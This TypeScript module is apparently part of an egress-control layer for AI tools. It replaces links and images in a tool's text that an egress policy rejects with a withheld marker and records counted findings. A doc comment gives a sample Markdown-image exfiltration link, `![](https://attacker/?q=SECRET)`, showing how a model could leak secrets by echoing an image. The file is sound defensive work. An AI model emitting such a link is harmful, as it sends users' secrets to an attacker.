// Links and images in a tool's prose held to the egress policy before a model can repeat them to a person.
import { checkUrl } from '../../egress/check-url.js';
import type { EgressPolicy } from '../../egress/policy.js';
import type { Finding } from '../../vocabulary/finding.js';

/**
 * A URL in prose: the target of a Markdown link or image, an autolink (`<https://…>`), or a bare `http(s)` URL.
 * Targets run to white space or the closing bracket; a bare URL stops before trailing punctuation.
 */
const URL_IN_PROSE =
  /(?<=\]\(\s*<?)[^\s)>]{1,8192}|(?<=<)[a-z][a-z0-9+.-]{0,31}:[^\s>]{1,8192}(?=>)|\bhttps?:\/\/[^\s<>()[\]"'`]{1,8192}[^\s<>()[\]"'`.,;:!?]/giu;

/** What stands in the text for a URL the policy does not allow (a marker no URL parser reads as a link). */
const WITHHELD = (reason: string): string => `⟦link withheld: ${reason}⟧`;

/**
 * Replaces every URL in `text` that the policy does not allow as a link a person could open (checked with
 * `link: true`, so under a policy naming no hosts a URL may carry no query and no fragment): the Markdown
 * image exfiltration channel (`![](https://attacker/?q=SECRET)`) is closed before the model can copy the
 * image into its answer. Allowed URLs are kept as written. One `mcp.link_withheld` finding counts them, with
 * a count per reason; never the URL.
 */
export function withholdLinks(
  text: string,
  policy: EgressPolicy,
): { readonly text: string; readonly findings: readonly Finding[] } {
  const reasons = new Map<string, number>();
  const replaced = text.replace(URL_IN_PROSE, (url) => {
    const decision = checkUrl(url, policy, { link: true });
    if (decision.allowed) return url;
    reasons.set(decision.reason, (reasons.get(decision.reason) ?? 0) + 1);
    return WITHHELD(decision.reason);
  });
  if (reasons.size === 0) return { text, findings: [] };
  const count = [...reasons.values()].reduce((sum, n) => sum + n, 0);
  const detail = Object.fromEntries(reasons);
  return {
    text: replaced,
    findings: [{ code: 'mcp.link_withheld', pointer: '', count, action: 'cleaned', detail }],
  };
}
